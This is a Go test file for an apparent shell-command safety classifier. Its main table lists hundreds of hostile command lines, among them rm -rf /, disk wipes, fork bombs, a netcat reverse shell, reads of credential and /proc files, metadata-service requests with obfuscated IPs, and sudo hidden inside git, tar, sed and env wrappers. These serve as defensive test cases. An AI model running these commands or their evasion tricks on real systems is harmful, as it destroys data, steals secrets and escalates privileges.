package sandbox_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"multis/safety/sandbox"
)

// bypasses are command lines that look harmless or hide what they do, with the lowest class that they may have. "refused"
// are those that may not even be read as a command.
const bypasses = `
refused      ls && rm -rf /
refused      ls; rm -rf /
refused      ls | sh
refused      ls & rm x
refused      ls > /etc/passwd
refused      ls >> notes.md
refused      cat < /etc/shadow
refused      echo $(rm -rf /)
refused      echo ` + "`rm -rf /`" + `
refused      echo "$(rm x)"
refused      echo ${HOME}
refused      echo $HOME
refused      $SHELL -c id
refused      FOO=bar ls
refused      LD_PRELOAD=./x.so ls
refused      ! ls
refused      (ls)
refused      { ls; }
refused      ls *
refused      /bin/r? -rf x
refused      cat ~/.ssh/id_rsa
refused      echo {a,b}
refused      cat <(id)
refused      cat <<<x
refused      if true; then ls; fi
refused      f() { f | f & }; f
refused      $'\x72m' -rf /
refused      ls # rm
refused      time ls
refused      coproc ls
refused      [[ -f x ]]
catastrophic rm -rf /
catastrophic r\m -rf /
catastrophic "r"m -r -f //
catastrophic rm -rf /./
catastrophic rm -rf /usr/../
catastrophic rm -rf /home
catastrophic rm -rf ../..
catastrophic rm --no-preserve-root -rf x
catastrophic /bin/rm -rf /etc
catastrophic env rm -rf /
catastrophic env -i rm -rf /
catastrophic env X=1 rm -rf /
catastrophic env sh -c 'rm -rf /'
catastrophic env -S 'rm -rf /'
catastrophic env --split-string='rm -rf /'
catastrophic nice -n 5 rm -rf /
catastrophic nice -n5 rm -rf /
catastrophic timeout 5 rm -rf /
catastrophic timeout -s KILL 5 rm -rf /
catastrophic timeout --sig=KILL 5 sudo ls
catastrophic nohup rm -rf /
catastrophic stdbuf -o0 rm -rf /
catastrophic xargs rm -rf /
catastrophic xargs -I{} sh -c 'rm -rf /'
catastrophic find . -exec rm -rf / ';'
catastrophic find . -execdir sudo id ';'
catastrophic find / -delete
catastrophic git -c core.pager='sudo id' log
catastrophic git -c alias.x='!sudo id' x
catastrophic tar cf x.tar . --checkpoint=1 --checkpoint-action=exec='rm -rf /'
catastrophic tar -I 'sudo id' -xf x.tar
catastrophic tar xf x.tar -C /
catastrophic sh -c 'rm -rf /'
catastrophic sh -c 'ls; rm -rf /'
catastrophic bash -lc 'rm -rf /'
catastrophic sh -c '$(echo rm) -rf /'
catastrophic sh -c 'eval rm'
catastrophic sh -c 'rm -rf $X'
catastrophic sh -c ':(){ :|:& };:'
catastrophic sh -c 'echo x > /dev/sda'
catastrophic sh -c 'echo x > /etc/passwd'
catastrophic busybox rm -rf /
catastrophic busybox sh -c 'rm -rf /'
catastrophic dd if=/dev/zero of=/dev/sda
catastrophic cp x /dev/sda
catastrophic tee /dev/mem
catastrophic mkfs.ext4 x
catastrophic sudo ls
catastrophic su -c ls
catastrophic doas ls
catastrophic systemctl stop multis
catastrophic shutdown -h now
catastrophic kill -9 1
catastrophic pkill multis
catastrophic multis backup
catastrophic docker run -v /:/h x
catastrophic nsenter -t 1 -m
catastrophic unshare -r sh
catastrophic crontab x
catastrophic cat /proc/self/environ
catastrophic cat /proc/1/root/etc/shadow
catastrophic cat /proc/self/root/etc/shadow
catastrophic head -c 100 /proc/../proc/1/mem
catastrophic grep -r x --file=/proc/self/environ
catastrophic curl --unix-socket /var/run/docker.sock http://x/
catastrophic curl http://169.254.169.254/latest/meta-data
refused      curl http://[::ffff:169.254.169.254]/
catastrophic curl 'http://[::ffff:169.254.169.254]/'
catastrophic curl 'http://[::ffff:a9fe:a9fe]/'
catastrophic curl http://2852039166/
catastrophic curl http://0xa9.0xfe.0xa9.0xfe/
catastrophic curl http://169.254.43518/
catastrophic curl http://0251.0376.0251.0376:80/
catastrophic curl http://0xA9FEA9FE/
catastrophic curl 'http://[fd00:ec2:0::254]/'
catastrophic curl 'http://[::ffff:169.254.170.2]:80/'
catastrophic nc -e sh 10.0.0.1 4444
catastrophic cat ../../../../../../proc/self/environ
catastrophic cat sub/../../../../proc/self/environ
catastrophic head -c 100 ../../../proc/1/mem
catastrophic grep -f/proc/self/environ x
catastrophic grep -rf../../../proc/self/environ x
catastrophic grep -r x /proc
catastrophic diff --to-file=../../../proc/self/environ x
catastrophic wc --files0-from=/proc/self/cmdline
catastrophic jq --rawfile x /proc/self/environ .
catastrophic xargs -a/proc/self/environ
catastrophic cat ../../../../dev/sda
catastrophic cat -n/dev/mem
catastrophic python3 -c "open('/proc/self/environ')"
catastrophic cp -t/etc x
catastrophic cp -rt/etc x
catastrophic mv -t/etc x
catastrophic mv -t../../etc x
catastrophic tar -C/etc -xf x
catastrophic tar -xC/usr -f x
catastrophic sudoedit x
catastrophic gosu root ls
catastrophic timedatectl set-time 2027-01-01
catastrophic hwclock --set
catastrophic chmod -R 777 /
catastrophic chown -R me /etc
catastrophic mv x /usr/bin/ls
catastrophic ln -s x /etc/cron.d/x
catastrophic cp --target-directory=/etc x
catastrophic nice nice nice nice nice nice nice nice nice nice ls
destructive  rm -rf .
destructive  rm x
destructive  ./ls
destructive  /tmp/x/ls
destructive  bin/cat x
destructive  env A=b ls
destructive  env LD_PRELOAD=./x.so ls
destructive  env
destructive  xargs cat
destructive  find . -delete
destructive  find . -fprint x
destructive  find . -fprintf x %p
destructive  find . -fls x
destructive  find . -ok cat ';'
destructive  sort -o x y
destructive  sort -ox y
destructive  sort -uo x y
destructive  sort --output=x y
destructive  sort --outp=x y
destructive  sort --o x y
destructive  sort --compress-prog=./x y
destructive  uniq a b
destructive  date -s tomorrow
destructive  date --se=tomorrow
destructive  date 010100002027
destructive  date -u 010100002027
destructive  date +%F 010100002027
destructive  date -d now 010100002027
destructive  date -- 010100002027
destructive  env date 010100002027
destructive  hostname evil
destructive  uniq -c a b
destructive  uniq - b
destructive  sort -k1 -ox y
destructive  yq -i .a x
destructive  file -C -m x
destructive  tree -o x
destructive  rg --pre ./x y
destructive  rg --pre=./x y
destructive  git -c core.pager=./x log
destructive  git -c core.fsmonitor=./x status
destructive  git --exec-path=. status
destructive  git --config-env=core.pager=X log
destructive  git --git-dir=x status
destructive  git -p log
destructive  git log --output=x
destructive  git log --outpu=x
destructive  git log --ext-diff
destructive  git log --ext
destructive  git diff
destructive  git grep -O./x y
destructive  git push
destructive  git x
destructive  git --paginate status
destructive  tar -tf x --to-command=./x
destructive  tar -xf x
destructive  tar --checkpoint-act=exec=./x -cf y .
destructive  tar --use-comp=./x -xf y
destructive  awk 'BEGIN { system("id") }'
destructive  sed -n '1e id' x
destructive  sed 'w x' y
destructive  sed -i s/a/b/ x
destructive  python3 -c 'import os'
destructive  perl -e 'unlink "x"'
destructive  ruby -e x
destructive  node -e x
destructive  php -r x
destructive  vim -c '!id' x
destructive  less x
destructive  man -P ./x ls
destructive  make
destructive  npm run x
destructive  sh script.sh
destructive  sh -c ls
destructive  bash --rcfile x -i
destructive  busybox sh x
destructive  /lib64/ld-linux-x86-64.so.2 ./x
destructive  flock x cat
destructive  watch ls
destructive  curl https://example.com
destructive  wget https://example.com
destructive  tee x
catastrophic env '-iSsudo id'
catastrophic env '-ivSrm -rf /'
catastrophic env -vSsudo
catastrophic env '-Ssudo\_id'
catastrophic setarch -R sudo id
catastrophic choom -n 5 -- sudo id
catastrophic npx sudo id
catastrophic uv run sudo
catastrophic valgrind sudo id
catastrophic awk 'BEGIN{system("sudo id")}'
catastrophic env -i sh -c x sh -c 'sudo id'
catastrophic sed -i d /etc/passwd
catastrophic sed -i /etc/passwd -e d
catastrophic sed -ne p /etc/passwd
catastrophic find /etc -exec ls ';'
catastrophic sh -c 'ls >/dev/sda'
catastrophic sh -c 'ls >/etc/x'
catastrophic curl --resolve x:80:169.254.169.254 http://x
catastrophic curl --connect-to ::169.254.169.254:80 http://x
catastrophic curl -x tcp4:169.254.169.254 http://x
catastrophic curl http://100.100.100.200/
catastrophic cat /proc/kcore
catastrophic cat /proc/kallsyms
destructive  sh -c 'ls >/dev/null'
destructive  sh -c 'ls 2>/dev/null'
destructive  sed '/etc/d' x
destructive  sed -n /run/p x
destructive  awk -F/ '{print $1}' x
destructive  find . -exec /usr/bin/wc '{}' ';'
destructive  cp a b
destructive  mv a b
destructive  ln a b
destructive  touch x
destructive  mkdir x
destructive  split x
destructive  zip x y -T -TT ./z
catastrophic sed '1e sudo id' x
catastrophic sed -n '/a/,$ e sudo id' x
catastrophic sed -e 's/a/b/;2e sudo id' x
catastrophic sed 's/.*/sudo id/e' x
catastrophic sed 's,x,sudo id,ge' x
catastrophic env -i sed '1e sudo id' x
catastrophic sed 'w /etc/hosts' x
catastrophic sed -n '/a/w/etc/cron.d/x' x
catastrophic sed -n 's/a/b/gw /etc/hosts' x
destructive  sed '1e ls' x
destructive  sed 's/x/ls/e' x
destructive  sed 'w out' x
destructive  sed 's/use sudo here/x/' x
destructive  sed 's/w/etc/' x
destructive  sed 's/new /usr/;s/e/w/' x
destructive  sed 's/e sudo/x/' x
catastrophic sh -c 'alias ls="sudo id"; ls'
catastrophic bash -c 'hash -p /usr/bin/sudo ls; ls id'
catastrophic bash -c 'enable -f ./x.so ls'
catastrophic bash -c 'mapfile -C "sudo id" -c 1 a'
catastrophic bash -c 'complete -C "sudo id" ls'
catastrophic bash -c 'fc -s'
destructive  bash -c 'hash ls && ls'
destructive  bash -c 'mapfile -t a'
catastrophic bash -c 'builtin exec sudo id'
catastrophic bash -c 'coproc sudo id'
catastrophic bash -c 'cat <(sudo id)'
catastrophic bash -c 'for x in $(sudo id); do ls; done'
catastrophic install -s --strip-program=sudo a b
catastrophic install -s --strip-p sudo a b
destructive  install -m 755 ip x
catastrophic awk '{print | "sudo id"}' x
catastrophic awk 'BEGIN{"sudo id" | getline}'
catastrophic sort --compress-program=sudo x
catastrophic sort --compress-prog sudo x
catastrophic tar cf y . --to-command='sudo id'
catastrophic tar cf y . -F 'sudo id'
catastrophic tar cf y . --rsh-command=sudo
catastrophic rsync -e 'sudo id' a b:
catastrophic rsync --rsync-path='sudo id' a b:
catastrophic ssh -o ProxyCommand='sudo id' x
catastrophic git -c core.sshCommand='sudo id' fetch
catastrophic git bisect run sudo id
catastrophic git rebase -x 'sudo id' x
catastrophic git submodule foreach 'sudo id'
catastrophic git grep -Osudo x
catastrophic man -P 'sudo id' ls
catastrophic man --pager='sudo id' ls
catastrophic less '+!sudo id' x
catastrophic vim -c '!sudo id' x
catastrophic vim '+!sudo id' x
catastrophic vim -c "call system('sudo id')" x
catastrophic view -c '!sudo id' x
catastrophic nvim -c '!sudo id' x
catastrophic zip x y -T -TT 'sudo id'
catastrophic split --filter='sudo id' x
catastrophic xargs sudo
catastrophic parallel sudo ::: x
catastrophic parallel 'sudo {}' ::: id
catastrophic setsid sudo id
catastrophic script -qc 'sudo id' x
catastrophic script --command='sudo id'
catastrophic watch -n1 sudo id
catastrophic flock x -c 'sudo id'
catastrophic flock x sudo id
catastrophic busybox sudo id
catastrophic tmux new 'sudo id'
catastrophic go build -toolexec 'sudo id'
catastrophic wget --use-askpass=sudo x
catastrophic curl http://１６９.２５４.１６９.２５４/
catastrophic curl http://169。254。169。254/
catastrophic curl http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/
catastrophic curl http://ｍetadata。google.internal/
catastrophic curl http://%31%36%39.254.169.254/
catastrophic sh -c 'curl http://１６９.２５４.１６９.２５４/'
destructive  unknown-program
refused      ls -la
refused      rm notes.md old
refused      rm notes.md old
refused      rm notes.md　old
refused      rm notes.md⠀old
refused      rm notes.md\ old
destructive  rm 'notes.md old'
catastrophic run0 id
catastrophic sudo-rs id
catastrophic docker-compose up
catastrophic busctl call x
catastrophic sh -c 'npm install $X'
catastrophic sh -c 'cargo build $X'
destructive  sh -c 'pip install $X'
`

func TestClassify_NoBypassLowersClass(t *testing.T) {
	tried, wrong := 0, []string(nil)
	for line := range strings.Lines(strings.TrimSpace(bypasses)) {
		class, command, _ := strings.Cut(strings.TrimSpace(line), " ")
		command = strings.TrimSpace(command)
		tried++
		argv, err := sandbox.Parse(command)
		got := "refused"
		if err == nil {
			got = sandbox.Classify(argv).Class.String()
		}
		if got != class {
			wrong = append(wrong, command+": "+got+", not "+class)
		}
	}
	require.Empty(t, wrong)
	require.GreaterOrEqual(t, tried, 260)
	for _, hidden := range []string{"ls \u202egpj.exe", "ls \x00", "ls \x1b[2J", "ls \u200b", strings.Repeat("x", 40_000), "", " ", "''"} {
		t.Run(hidden, func(t *testing.T) {
			_, err := sandbox.Parse(hidden)
			require.Error(t, err, "%q", hidden)
		})
	}
}

func TestClassify_ReadingIsHarmless(t *testing.T) {
	for command := range strings.Lines(`ls
ls -la sub
cat notes.md
head -n 20 notes.md
grep -rn 'a.*b' src
grep "a\.b" x
find . -name '*.go' -type f
sort -rn x
uniq -c x
wc -l x
git status
git log --oneline -20
git show HEAD
du -sh .
df -h
date +%F
date -d yesterday +%F
date --date yesterday
date -r notes.md
grep -e/usr notes.md
cat src/dev/main.go
cat a..b/proc/1
ls ../dev-tools
echo 2852039167 10.0.0.1 fd00:ec2::255
jq -f filter.jq x.json
diff --to-file=a b
wc --files0-from=names
timeout 5 ls -l
nice ls
nice -n 10 cat x
env ls
/usr/bin/ls x
echo rm -rf x
diff a b
sha256sum x`) {
		argv, err := sandbox.Parse(strings.TrimSpace(command))
		require.NoError(t, err, command)
		v := sandbox.Classify(argv)
		require.Equal(t, sandbox.Harmless, v.Class, "%s: %s", command, v.Why)
		require.Empty(t, v.Why)
	}
}

func TestParse_ReadsQuotesAsShell(t *testing.T) {
	for line, want := range map[string][]string{
		`a b  c`: {"a", "b", "c"}, `a 'b c' "d e"`: {"a", "b c", "d e"}, `a b\ c "\"x\" \$y \n"`: {"a", "b c", `"x" $y \n`},
		`a'b'"c"\d`: {"abcd"}, "a \\\nb": {"a", "b"}, `a ''`: {"a", ""},
		`a '*' "?" '$x' '{}'`: {"a", "*", "?", "$x", "{}"}, `a b~`: {"a", "b~"}, `a ';'`: {"a", ";"}, `a \;`: {"a", ";"},
	} {
		t.Run(line, func(t *testing.T) {
			got, err := sandbox.Parse(line)
			require.NoError(t, err, line)
			require.Equal(t, want, got, line)
		})
	}
}

// FuzzParse checks that what is read can be written and read again, and that no wrapper makes a command look safer.
func FuzzParse(f *testing.F) {
	for line := range strings.Lines(bypasses) {
		_, command, _ := strings.Cut(strings.TrimSpace(line), " ")
		f.Add(strings.TrimSpace(command))
	}
	f.Fuzz(func(t *testing.T, line string) {
		argv, err := sandbox.Parse(line)
		if err != nil {
			return
		}
		again, err := sandbox.Parse(sandbox.Quote(argv))
		require.NoError(t, err, "%q", argv)
		require.Equal(t, argv, again)
		class := sandbox.Classify(argv).Class
		for _, wrapper := range [][]string{{"nice"}, {"env"}, {"timeout", "5"}, {"xargs"}, {"busybox"}, {"env", "-i"}, {"nohup"}} {
			wrapped := sandbox.Classify(append(wrapper, argv...)).Class
			require.GreaterOrEqual(t, wrapped, class, "%q %q", wrapper, argv)
		}
	})
}

func TestInner_ListsCommands(t *testing.T) {
	for line, want := range map[string]string{
		"timeout 5 nice curl x": "curl x", "env A=b curl x": "curl x", "env -i curl x": "curl x", "xargs -n1 curl x": "curl x",
		"nohup curl x": "curl x", "xargs -I{} curl x": "curl x",
		"find . -exec curl x": "curl x", "sh -c 'ls; curl x'": "curl x", "bash -lc 'curl x'": "curl x", "env sh -c 'true && curl x'": "curl x",
		"busybox sh -c 'curl x'":     "curl x",
		"git -c alias.x='!curl x' x": "curl x", "env -S 'curl x'": "curl x", "nice -n5 curl x": "curl x", "setsid -w curl x": "curl x",
		"sh -c 'sh -c \"curl x\"'":                     "curl x",
		"tar cf y . --checkpoint-action=exec='curl x'": "curl x", "env '-iScurl x'": "curl x", "env -i sh -c '(curl x)'": "curl x",
		"env -i sh -c 'curl x>out'": "curl x", "npx curl x": "curl x",
		"env -i sh -c 'curl<x'": "curl", "sed '1e curl x' y": "curl x", "sed 's/a/curl x/e' y": "curl x",
		"awk 'BEGIN{system(\"curl x\")}'": "curl x",
	} {
		t.Run(line, func(t *testing.T) {
			argv, err := sandbox.Parse(line)
			require.NoError(t, err, line)
			var inner []string
			for _, command := range sandbox.Inner(argv) {
				inner = append(inner, strings.Join(command, " "))
			}
			require.Contains(t, inner, want, line)
		})
	}
	for _, line := range []string{"curl x", "echo curl x", "grep curl x", "find . -name curl", "npm install curl", "git log curl"} {
		t.Run(line, func(t *testing.T) {
			argv, err := sandbox.Parse(line)
			require.NoError(t, err, line)
			require.Empty(t, sandbox.Inner(argv), line)
		})
	}
}

// A command of 32 KB was judged for two minutes, which nothing could end.
func TestClassify_LongCommandTakesFewSteps(t *testing.T) {
	for _, words := range []string{" a", " env", " rm", " sh -c x", " sh -c 'a;b;c;d'", " -a=!b", " a=b=c=d=e", " 'a;b'", " -r/a/../b"} {
		t.Run(words, func(t *testing.T) {
			line := "env -i" + strings.Repeat(words, 32_000/len(words))
			argv, err := sandbox.Parse(line)
			require.NoError(t, err)
			require.Equal(t, sandbox.Catastrophic, sandbox.Classify(argv).Class, words)
			require.Empty(t, sandbox.Inner(argv), words)
			allocated := testing.AllocsPerRun(1, func() { sandbox.Classify(argv[:min(len(argv), 500)]); sandbox.Inner(argv[:min(len(argv), 500)]) })
			require.Less(t, allocated, 6e5, words)
		})
	}
	require.Equal(t, sandbox.Destructive, sandbox.Classify(strings.Fields("git add"+strings.Repeat(" a", 400))).Class)
	require.Equal(t, sandbox.Destructive, sandbox.Classify(strings.Fields("rm"+strings.Repeat(" a", 16_000))).Class)
}
